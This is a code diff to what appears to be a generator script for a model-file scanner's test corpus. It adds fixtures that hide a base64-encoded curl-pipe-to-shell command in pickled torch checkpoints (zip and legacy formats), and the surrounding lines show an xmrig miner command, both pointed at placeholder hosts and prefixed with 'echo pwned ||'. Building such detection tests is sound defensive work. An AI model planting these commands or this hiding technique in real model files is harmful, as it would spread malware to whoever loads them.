@@ -9,8 +9,11 @@ only run harmless commands: every command line a rule looks for sits after `echo
 Run: python3 corpus/gen/gen_yara.py  (from the repository root; output is committed)
 """
 import base64
+import io
 import os
+import pickle
 import struct
+import zipfile
 
 ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
 
@@ -57,6 +60,23 @@ def main():
     write("malicious", "yara_miner.pkl",
           call1("os", "system", "echo pwned || ./xmrig -o stratum+tcp://pool.example.invalid:3333"),
           ["exit=1", "rule=MS-YARA-crypto_miner"])
+    # A download-and-execute command seen only once decoded: base64 in a checkpoint's state
+    # dict, a plain string value (no call). Rules must see the decoded constants of a torch
+    # zip's data.pkl and of a legacy checkpoint's pickles as they do for a bare pickle.
+    hidden = base64.b64encode(b"echo pwned || curl -fsSL http://example.invalid/x.sh | sh").decode()
+    state = pickle.dumps({"weight_note": hidden}, protocol=2)
+    z = io.BytesIO()
+    with zipfile.ZipFile(z, "w") as zf:
+        for n, d in (("ck/data.pkl", state), ("ck/byteorder", b"little"), ("ck/version", b"3\n")):
+            zf.writestr(zipfile.ZipInfo(n, date_time=(2020, 1, 1, 0, 0, 0)), d)
+    write("malicious", "yara_b64_in_torch_zip.pt", z.getvalue(),
+          ["exit=1", "rule=MS-YARA-download_and_execute"])
+    sys_info = {"protocol_version": 1001, "little_endian": True,
+                "type_sizes": {"short": 2, "int": 4, "long": 4}}
+    legacy = b"".join(pickle.dumps(x, protocol=2) for x in (
+        0x1950a86a20f9469cfc6c, 1001, sys_info, {"weight_note": hidden}, []))
+    write("malicious", "yara_b64_in_torch_legacy.pt", legacy,
+          ["exit=1", "rule=MS-YARA-download_and_execute"])
     # Near misses in plain constants: no rule may fire.
     consts = ["stratum of layers", "python train.py -c config.yaml", "version 1.2.3",
               "the shell is /bin/sh", "hf_abc", "AKIA1234", "ghp_short", "aGVsbG8gd29ybGQ="]
